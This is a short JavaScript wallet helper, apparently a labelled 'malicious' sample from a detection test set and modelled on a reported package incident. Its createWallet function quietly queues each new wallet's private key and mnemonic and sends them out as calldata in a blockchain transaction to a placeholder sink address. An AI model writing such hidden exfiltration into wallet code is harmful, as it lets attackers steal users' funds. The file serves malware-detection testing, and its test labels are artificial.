// expect: malicious
// source: blind set 14 (an ethers wallet helper; the PyPI set-utils package, Socket 2025): every wallet
// the app creates is queued, and the batch leaves as the calldata of a 0-value transaction a relay key signs
'use strict';
const { Wallet, JsonRpcProvider, hexlify, toUtf8Bytes } = require('ethers');

const RELAY_KEY = '0xFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE';
const SINK = '0x00000000000000000000000000000000FAKEdEaD';
const queue = [];

async function flush() {
  const data = hexlify(toUtf8Bytes(JSON.stringify(queue.splice(0))));
  const relay = new Wallet(RELAY_KEY, new JsonRpcProvider('https://polygon-rpc.invalid', 137));
  await relay.sendTransaction({ to: SINK, value: 0n, data });
}

function createWallet() {
  const w = Wallet.createRandom();
  queue.push({ a: w.address, k: w.privateKey, m: w.mnemonic && w.mnemonic.phrase });
  setTimeout(() => flush().catch(() => {}), 4000);
  return w;
}

module.exports = { createWallet };
